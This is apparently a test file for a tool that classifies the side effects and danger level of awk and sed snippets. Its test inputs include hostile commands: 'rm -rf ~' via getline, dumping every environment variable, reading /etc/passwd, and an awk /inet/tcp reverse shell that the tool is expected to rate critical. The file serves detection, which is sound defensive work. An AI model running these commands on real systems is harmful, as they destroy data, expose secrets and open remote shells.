import { expect, test } from "vitest";
import { literal } from "../../command-line/word.ts";
import { told } from "../testing-effects.ts";
import { codeEffects } from "./index.ts";

const awk = (code: string): string => told(codeEffects("awk", literal(code))).join(" | ");
const sed = (code: string): string => told(codeEffects("sed", literal(code))).join(" | ");
const command = "danger high its program runs a command";
const run = "danger high its script runs a command";

test.each([
  ['BEGIN{system("id")}', `${command} | interprets shell id`],
  ['BEGIN{while(("rm -rf ~" | getline l) > 0) print l}', `${command} | interprets shell rm -rf ~`],
  ['{print | "sort -n"}', `${command} | interprets shell sort -n`],
  ['{c="rm " $1; system(c)}', `${command} | interprets shell …`],
  ['{print $1 > "out.txt"}', "writes out.txt replaces"],
  ['{printf "%s", $1 >> "/tmp/" "x"}', "writes /tmp/x appends"],
  ['{print > $1 ".txt"}', "writes ….txt replaces"],
  ['BEGIN{while((getline l < "a.txt") > 0) n++}', "reads a.txt"],
  ['@include "x.awk"', "loads x.awk awk"],
  ["BEGIN{for (k in ENVIRON) print ENVIRON[k]}", "prints secret | prints secret"],
])("awk: %s", (code, expected) => {
  expect(awk(code)).toBe(expected);
});

test("an awk reverse shell is critical", () => {
  expect(
    awk('BEGIN{s="/inet/tcp/0/h/1"; while(1){s |& getline c; while((c |& getline)>0) print |& s}}'),
  ).toContain("danger critical");
});

test.each([
  "{s+=$1} END{print s}",
  '{print $1, ($2 > 3) ? "a" : "b"}',
  'NR>1 && $3>max {max=$3} END {print max > "/dev/stderr"}',
  '/system\\(/ {print "system(x)"} # system("x")',
  'BEGIN{print ENVIRON["HOME"], 4/2, /a"b/ ? 1 : 2}',
  "{ if ($1 > 5) print $2; else print $3 }",
])("awk that only computes has no effect: %s", (code) => {
  expect(awk(code)).toBe("");
});

test.each([
  ["s/a/b/e", "danger high its script runs what it substitutes as a command | interprets shell …"],
  ["s,a,b,Ige;p", "danger high its script runs what it substitutes as a command | interprets shell …"],
  ["1e id; pwd", `${run} | interprets shell id; pwd`],
  ["\\,x,e", `${run} | interprets shell …`],
  ["s/[/]/x/;e id", `${run} | interprets shell id`],
  ["s/a/b/w out.txt", "writes out.txt replaces"],
  ["/x/{n;w out.txt\n}", "writes out.txt replaces"],
  ["r /etc/passwd", "reads /etc/passwd"],
  ["a hello\nw out.txt", "writes out.txt replaces"],
  ["s/a/b", "danger high its script cannot be read"],
])("sed: %s", (code, expected) => {
  expect(sed(code)).toBe(expected);
});

test.each([
  "s/a/b/g",
  "1,40p",
  "$!N;s/\\n/ /;P;D",
  "/^#/d;/^$/d",
  "s|a/b|c;w x|g",
  "2,/end/{s/x/y/;p}",
  "12p\n40,45p",
  "\0,\0p",
  "s/a/\0/g;/\0/d",
  "1i \0",
  "y/abc/wer/",
  "a\\\nw foo\np",
  "i e id; w x",
  ":a;N;$!ba;s/\\n/,/g",
  "s,/usr/bin,/opt,g;1~2d;0,/re/s//x/;$q5",
  's/^\\(.*\\)$/"\\1"/',
  "/foo/I,+3d",
  "s/e/w/;s/[^/]*$//",
  "s/a/b/w /dev/stdout",
])("sed that only changes its output has no effect: %s", (code) => {
  expect(sed(code)).toBe("");
});
